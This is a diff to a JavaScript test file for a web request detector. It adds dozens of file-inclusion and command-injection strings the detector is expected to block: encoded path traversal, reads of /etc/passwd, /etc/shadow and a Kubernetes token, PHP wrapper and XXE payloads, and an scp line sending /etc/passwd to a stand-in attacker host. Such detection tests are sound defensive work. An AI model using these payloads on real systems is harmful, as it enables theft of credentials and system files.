@@ -62,13 +62,71 @@ describe('pathDetector', () => {
     ['lfi', '/config.php~', { place: 'path', name: '' }],
     ['lfi', '/tienda1/publico/vaciar.jsp.inc', { place: 'path', name: '' }],
     ['lfi', '/_vti_bin/shtml.dll', { place: 'path', name: '' }],
+    ['lfi', '${IFS}cat${IFS}/etc/passwd'],
+    ['lfi', ';cat</etc/passwd'],
+    ['lfi', ';cat<>/etc/passwd'],
+    ['lfi', ';a=c;b=at;$a$b /etc/passwd'],
+    ['lfi', ';tac /etc/passwd'],
+    ['lfi', ';strings /etc/passwd'],
+    ['lfi', ';nl /etc/passwd'],
+    ['lfi', '|more /etc/passwd'],
+    ['lfi', ';head /etc/passwd'],
+    ['lfi', ';grep . /etc/passwd'],
+    ['lfi', ';awk 1 /etc/passwd'],
+    ['lfi', ';dd if=/etc/passwd'],
+    ['lfi', ';base64 /etc/passwd'],
+    ['lfi', ';xxd /etc/passwd'],
+    ['lfi', ';od -c /etc/passwd'],
+    ['lfi', ';sort /etc/passwd'],
+    ['lfi', ';diff /etc/passwd /dev/null'],
+    ['lfi', ';scp /etc/passwd a@evil.example:'],
+    ['lfi', '%3Bcat%20%2Fetc%2Fpasswd'],
+    ['lfi', '/etc/passwd'],
+    ['lfi', '/etc/shadow'],
+    ['lfi', 'etc/passwd'],
+    ['lfi', '../etc/passwd'],
+    ['lfi', './../../etc/passwd'],
+    ['lfi', '/../../etc/passwd'],
+    ['lfi', '/%2e%2e/%2e%2e/etc/passwd'],
+    ['lfi', '..%00/..%00/etc/passwd'],
+    ['lfi', '..%0d/..%0d/etc/passwd'],
+    ['lfi', '..%u2215..%u2215etc%u2215passwd'],
+    ['lfi', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
+    ['lfi', '..%e0%80%af..%e0%80%afetc/passwd'],
+    ['lfi', '/proc/self/fd/3'],
+    ['lfi', '/proc/cpuinfo'],
+    ['lfi', '/var/log/apache2/access.log'],
+    ['lfi', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
+    ['lfi', '/root/.bash_history'],
+    ['lfi', '/usr/local/etc/php.ini'],
+    ['lfi', '/opt/lampp/etc/httpd.conf'],
+    ['lfi', 'C:\\boot.ini'],
+    ['lfi', 'C:\\Windows\\System32\\drivers\\etc\\hosts'],
+    ['lfi', 'c:/windows/system32/license.rtf'],
+    ['lfi', '..\\..\\..\\..\\windows\\win.ini'],
+    ['lfi', '..//..//..//windows/win.ini'],
+    ['lfi', 'WEB-INF/classes/application.properties'],
+    ['lfi', 'file:///proc/self/environ'],
+    ['lfi', 'file://localhost/etc/passwd'],
+    ['lfi', 'FILE:///etc/passwd'],
+    ['lfi', 'php://filter/read=string.rot13/resource=config.php'],
+    ['lfi', 'PhP://InPuT'],
+    ['lfi', 'php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd'],
+    ['lfi', 'zip:///tmp/a.zip#b'],
+    ['lfi', 'compress.zlib:///etc/passwd'],
+    ['lfi', 'glob:///etc/*'],
+    ['lfi', "<%= File.open('/etc/passwd').read %>"],
+    ['lfi', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>'],
   ];
 
-  test.each(attacks)('%s is blocked: %j', (attackClass, text, at) => {
-    const { action, findings } = inspect(text, at);
-    expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
-      action: 'block',
-      classes: expect.arrayContaining([attackClass]),
-    });
-  });
+  test.each(attacks.map(([attackClass, text, at]) => ({ attackClass, text, at })))(
+    '$attackClass: $text',
+    ({ attackClass, text, at }) => {
+      const { action, findings } = inspect(text, at);
+      expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
+        action: 'block',
+        classes: expect.arrayContaining([attackClass]),
+      });
+    },
+  );
 });
